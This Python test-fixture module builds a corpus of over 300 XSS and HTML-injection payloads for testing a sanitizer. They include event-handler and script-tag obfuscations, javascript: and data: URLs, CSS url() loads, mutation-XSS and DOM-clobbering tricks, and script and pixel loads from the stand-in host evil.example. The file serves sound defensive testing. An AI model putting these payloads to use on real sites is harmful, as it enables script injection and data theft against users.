"""Hostile HTML, made from families: what people try, times where they try it, times how they hide it.

Every snippet either runs ``tactfulPwned()`` or asks for something under ``https://evil.example`` when a
browser takes it at its word. Used by the tests of the rules and by the tests in a real browser.
"""

# Snippets are data, easier to compare when each family stands in few long lines.
# ruff: noqa: E501, RUF001

from html import escape
from itertools import product
from urllib.parse import quote

CALL = "tactfulPwned()"
EVIL = "https://evil.example"


def hostile_corpus() -> list[str]:
    """More than 300 different snippets, always in the same order."""
    families = (_handlers, _scripts, _links, _css, _remote, _namespaces, _mutations, _clobbering, _shapes)
    return list(dict.fromkeys(snippet for family in families for snippet in family()))


def _handlers() -> list[str]:
    elements = (
        "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "marquee",
        "iframe", "object data=x", "select autofocus", "textarea autofocus", "a href=x", "p", "table", "math",
    )  # fmt: skip
    events = (
        "onerror",
        "onload",
        "onfocus",
        "ontoggle",
        "onmouseover",
        "onpointerrawupdate",
        "onanimationend",
    )
    ways = ("{e}={c}", "{e}='{c}'", '{e}="{c}"', "{E}={c}", "\n{e}\n=\n{c}", "/{e}={c}", "\x0c{e}={h}")
    plain = [f"<{element} {event}={CALL}>" for element, event in product(elements, events)]
    hidden = [
        "<img src=x " + way.format(e=event, E=event.upper(), c=CALL, h=_entities(CALL)) + ">x</img>"
        for way, event in product(ways, events[:4])
    ]
    return plain + hidden


def _scripts() -> list[str]:
    return [
        f"<script>{CALL}</script>",
        f"<SCRIPT SRC={EVIL}/x.js></SCRIPT>",
        f"<scr<script>ipt>{CALL}</scr</script>ipt>",
        f"<script/x>{CALL}</script/x>",
        f"<script\x00>{CALL}</script>",
        f"<svg><script>{CALL}</script></svg>",
        f"<svg><script href='data:text/javascript,{CALL}'/></svg>",
        f"<svg><script xlink:href='{EVIL}/x.js'></script></svg>",
        f"<math><script>{CALL}</script></math>",
        f"<noscript><p title='</noscript><script>{CALL}</script>'>",
        f"<template><script>{CALL}</script></template>",
        f"<!--><script>{CALL}</script-->",
        f"<!--[if gte IE 4]><script>{CALL}</script><![endif]-->",
        f"<![CDATA[<script>{CALL}</script>]]>",
        f"<?xml version='1.0'?><script>{CALL}</script>",
        f"<script type=module>import '{EVIL}/m.js'</script>",
        f'<script type=importmap>{{"imports":{{"x":"{EVIL}"}}}}</script>',
        f"<<script>{CALL}//<</script>",
        f"\ufeff<script>{CALL}</script>",
        f"＜script＞{CALL}＜/script＞<script>{CALL}</script>",
    ]


def _links() -> list[str]:
    js = "javascript:" + CALL
    spellings = (
        js, js.upper().replace(CALL.upper(), CALL), " " + js, "\x01" + js, "java\tscript:" + CALL,
        "java\nscript:" + CALL, "java&#10;script:" + CALL, "java&Tab;script&colon;" + CALL, _entities(js),
        _entities(js, "x"), _entities(js).replace(";", ""), "vbscript:" + CALL, "livescript:" + CALL,
        f"data:text/html,<script>{CALL}</script>", "data:text/html;base64,PHNjcmlwdD50YWN0ZnVsUHduZWQoKTwvc2NyaXB0Pg==",
        f"data:image/svg+xml,<svg onload={CALL}>", quote(js), "javascript&#x3a;" + CALL, "feed:javascript:" + CALL,
        "view-source:" + js, "blob:" + js, "\u2028" + js, "java\u00adscript:" + CALL, "//evil.example/x",
        "\\\\evil.example\\x", "file:///etc/passwd", "ms-word:ofe|u|" + EVIL, "intent://x#Intent;end",
    )  # fmt: skip
    places = ('<a href="{u}">x</a>', "<a href='{u}' target=_top>x</a>", '<area href="{u}">', '<form action="{u}"><button>x',
              '<iframe src="{u}"></iframe>')  # fmt: skip
    return [place.format(u=spelling.replace('"', "&quot;")) for place, spelling in product(places, spellings)]


def _css() -> list[str]:
    values = (
        f"background:url({EVIL}/1)", f"background-image:url('{EVIL}/2')", f'background:URL("{EVIL}/3")',
        f"list-style:url({EVIL}/4)", f"list-style-image:url({EVIL}/5)", f"content:url({EVIL}/6)",
        f"cursor:url({EVIL}/7),auto", f"border-image:url({EVIL}/8) 30", f"mask:url({EVIL}/9)",
        f"filter:url({EVIL}/10#x)", f"shape-outside:url({EVIL}/11)", f"background:\\75rl({EVIL}/12)",
        f"background:u\\72l({EVIL}/13)", f"background:ur/**/l({EVIL}/14)", f"background:image-set('{EVIL}/15' 1x)",
        f"background:-webkit-image-set(url({EVIL}/16) 1x)", f"background:image('{EVIL}/17')",
        f"background:cross-fade(url({EVIL}/18),red)", f"--x:url({EVIL}/19);background:var(--x)",
        f"color:red;background:src('{EVIL}/20')", f"width:expression({CALL})", f"behavior:url({EVIL}/21)",
        f"-moz-binding:url({EVIL}/22#x)", f"font-family:x;src:url({EVIL}/23)", f"color:red}}@import '{EVIL}/24';{{",
        f"background:url(data:image/svg+xml,<svg/onload={CALL}>)", f"color:red/*;background:url({EVIL}/25)*/",
        "position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999",
        f"BACKGROUND:\nurl\n({EVIL}/26)", f"background:url&#40;{EVIL}/27&#41;", f"color:red;;background :url({EVIL}/28)",
    )  # fmt: skip
    attributes = [f'<div style="{escape(value)}">x</div>' for value in values]
    elements = [f"<style>p{{{value}}}</style><p>x" for value in values]
    sheets = [
        f"<style>@import '{EVIL}/a.css';</style>", f"<style>@im\\port url({EVIL}/b.css);</style>",
        f"<style>@font-face{{font-family:x;src:url({EVIL}/f.woff)}}p{{font-family:x}}</style><p>x",
        f"<link rel=stylesheet href={EVIL}/c.css>", f"<svg><style>@import '{EVIL}/d.css'</style></svg>",
        f"<style><!--</style><script>{CALL}</script>--></style>", f"<style media=all>@namespace url({EVIL});</style>",
    ]  # fmt: skip
    return attributes + elements + sheets


def _remote() -> list[str]:
    url = f"{EVIL}/pixel.png"
    return [
        f"<img src={url}>", f"<IMG SRC='{url}' width=1 height=1>", f"<img srcset='{url} 1x, {url}?2 2x'>",
        "<img src=//evil.example/p>", "<img src='\\\\evil.example\\p'>", f"<img src=x data-remote-src='{url}'>",
        f"<img alt='<img src={url}>' src=x>", f"<img lowsrc={url}>", f"<img dynsrc={url}>", f"<image src={url}>",
        f"<picture><source srcset={url}><img></picture>", f"<video poster={url}></video>",
        f"<video><source src={url}></video>", f"<video><track default src={url}></video>", f"<audio src={url}></audio>",
        f"<body background={url}>", f"<table background={url}><tr><td background={url}>x", f"<input type=image src={url}>",
        f"<embed src={url}>", f"<object data={url}></object>", f"<applet code={url}></applet>", f"<bgsound src={url}>",
        f"<frameset><frame src={url}></frameset>", f"<iframe srcdoc='<img src={url}>'></iframe>",
        f"<link rel=prefetch href={url}>", "<link rel=dns-prefetch href=//evil.example>", f"<link rel=icon href={url}>",
        f"<meta http-equiv=refresh content='0;url={url}'>", f"<base href={EVIL}/>", f"<a ping={url} href={EVIL}>x</a>",
        f"<html manifest={url}>", f"<q cite={url}>x</q>", f"<svg><image href={url} /></svg>",
        f"<svg><use href='{url}#x'/></svg>", f"<svg><feImage href={url} /></svg>",
        f"<svg><filter><feImage xlink:href='{url}'/></filter></svg>", f"<svg><a xlink:href='javascript:{CALL}'><text>x",
        f"<svg><animate attributeName=href values='javascript:{CALL}'/></svg>",
        f"<svg><set attributeName=onload to={CALL} /></svg>", f"<svg><foreignObject><img src={url} onerror={CALL}>",
        f"<xml src={url}></xml>", f"<portal src={url}></portal>", f"<fencedframe src={url}></fencedframe>",
        f"<form action={url}><input name=x><button formaction='javascript:{CALL}'>x</button></form>",
        f"<isindex action='javascript:{CALL}' type=image>", f"<keygen autofocus onfocus={CALL}>",
        "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9dGFjdGZ1bFB3bmVkKCk+'>", "<img src=cid:part1@mail>",
    ]  # fmt: skip


def _namespaces() -> list[str]:
    carriers = (
        "style",
        "title",
        "textarea",
        "noscript",
        "xmp",
        "iframe",
        "noembed",
        "noframes",
        "script",
        "plaintext",
    )
    payload = f"<img src=x onerror={CALL}>"
    roots = (
        "svg",
        "math",
        "math><mtext",
        "svg><desc",
        "svg><foreignObject",
        "math><annotation-xml encoding=text/html",
    )
    closing = [f'<{root}><{name}><a title="</{name}>{payload}">' for root, name in product(roots, carriers)]
    return [*closing, *(f"<{name}></{name}>{payload}" for name in carriers)]


def _mutations() -> list[str]:
    payload = f"<img src=x onerror={CALL}>"
    return [
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;{escape(payload)}">',
        f"<form><math><mtext></form><form><mglyph><style></math>{payload}",
        f'<svg></p><style><a id="</style>{payload}">',
        f'<math><mi></mi><mglyph><svg><mtext><textarea><path id="</textarea>{payload}">',
        f"<noscript><style></noscript>{payload}</style>",
        f"<table><caption><svg><title><style><td>{payload}</style></title></svg></caption></table>",
        f"<p id='`{payload}`'>x", f"<a title='`onmouseover={CALL} x='>x</a>", f'<p title="&quot;>{payload}">x',
        f"<listing>&lt;img onerror={CALL} src=x&gt;</listing>", f"<pre>\n\n{payload}</pre>",
        f"<option><style></option></select><b>{payload}</style></option>", f"<select><template><style><!--</style>{payload}",
        f"<svg><style>&lt;/style>{escape(payload)}</style></svg>", f'<svg><![CDATA[><image xlink:href="]]>{payload}">',
        f"<a href='x' {'a' * 50}='{payload}'>x</a>", "<div>" * 600 + payload, f"<b><p></b>{payload}<i></p></i>",
        f"<table><tr><td><table>{payload}<tr>", f"<br><{'/' * 30}{payload}", f"<a/href='javascript:{CALL}'/x>y</a>",
    ]  # fmt: skip


def _clobbering() -> list[str]:
    names = (
        "body",
        "cookie",
        "getElementById",
        "htmx",
        "location",
        "parentNode",
        "currentScript",
        "__proto__",
    )
    return [shape.format(name) for name in names for shape in (
        "<img name={}>", "<form id={0}><input name={0}></form>", "<a id={0}><a id={0} name=href href=https://evil.example>",
        "<div hx-get=/x hx-trigger=load id={}>", "<p class={} data-hx-on:load='tactfulPwned()' contenteditable>x</p>",
    )]  # fmt: skip


def _shapes() -> list[str]:
    """Unfinished and oddly written markup."""
    payload = f"<img src=x onerror={CALL}>"
    return [
        f"<img src=x onerror={CALL}", f"<img src='x' onerror='{CALL}", f"<img \x00src=x one\x00rror={CALL}>", f"<\x00img src=x onerror={CALL}>",
        f"<img src=x\x0bonerror={CALL}>", f"< img src=x onerror={CALL}>", f"</img src=x onerror={CALL}>", f"<img<img src=x onerror={CALL}>",
        f"&lt;img src=x onerror={CALL}&gt;", f"&amp;lt;script&amp;gt;{CALL}", f"\ud800{payload}", f"\u202e{payload}", f"%3Cscript%3E{CALL}",
        f"+ADw-script+AD4-{CALL}+ADw-/script+AD4-", f"\x1b$B{payload}", f"{payload * 50}", f"<a b='>' c={payload}>", f"<!DOCTYPE x [<!ENTITY y '{payload}'>]>&y;",
        f"<!-- --!>{payload} -->", f"<!-->{payload}-->", f"<?php {payload} ?>", f"<%{payload}%>", f"<custom-element onclick={CALL}>x</custom-element>",
        f"<x:y xmlns:x='http://www.w3.org/1999/xhtml' onclick={CALL}>", f"<o:p onclick={CALL}>x</o:p>", "<v:rect style='behavior:url(#default#VML)'>",
    ]  # fmt: skip


def _entities(text: str, kind: str = "") -> str:
    return "".join(f"&#{kind}{format(ord(char), 'x') if kind else ord(char)};" for char in text)
